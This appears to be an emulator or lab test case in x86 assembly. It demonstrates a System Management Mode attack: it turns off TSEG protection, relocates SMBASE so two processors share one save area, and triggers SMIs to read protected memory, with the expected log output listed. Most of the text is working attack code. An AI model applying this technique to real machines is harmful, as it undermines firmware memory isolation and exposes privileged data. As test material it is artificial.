; Before the lock, the second processor gets the first one's SMBASE; then both are in SMM at once, with one save area.
; hardware: nothing keeps tiles apart. The save state written last wins: both processors leave SMM with the registers of
; the second, and SMRAM stays closed.
; source: Intel SDM Vol. 3, "SMBASE Relocation", "Multiple Processors and SMM"
; setup: cpus=2 lock=no
; log: 000000c1
; log: 000000c1
; log: ffffffff
; log: end
attack: mov ebx, MCH | 0x9e     ; T_EN off: TSEG is RAM
        mov al, 0
        call pci_write8
        mov esi, .move
        mov edi, TSEG + 0x9000
        mov ecx, .meet - .move
        rep movsb
        mov dword [go], 1
.moved: pause
        cmp dword [0x5000], 1
        jne .moved
        mov esi, .meet
        mov ecx, .meet_end - .meet
        call own_handler
        mov dword [0x5000], 2
        mov ebp, 0xc0
        out 0xb2, al
.never: jmp .never
bits 16
.move:  mov dword [cs:0xff00], TSEG
        rsm
.meet:  mov esi, TSEG + 0x100
        mov eax, [esi]          ; what would leak
        mov ecx, [esi + 4]
        lock inc dword [dword 0x5004]
.wait:  pause
        cmp dword [dword 0x5004], 2
        jb .wait
        rsm
.meet_end:
bits 32
ap_attack:
        mov al, 0
        call smi
        mov dword [0x5000], 1
.first: pause
        cmp dword [0x5004], 1   ; the first processor is in SMM
        jne .first
        mov ebp, 0xc1
        xor edx, edx
        out 0xb2, al
.after: cmp dword [0x5004], 2   ; both come here, with one stack between them
        jb .after
        mov eax, [LAPIC + 0x20]
        shr eax, 24
        mov [0x5010 + eax * 4], ebp
        or eax, eax
        jz .show
.halt:  cli
        hlt
        jmp .halt
.show:  pause
        cmp dword [0x5014], 0
        je .show
        mov esp, STACK
        mov eax, [0x5010]
        call hex32
        call newline
        mov eax, [0x5014]
        call hex32
        call newline
        mov eax, [TSEG + 0x100]
        call hex32
        call newline
        jmp finish
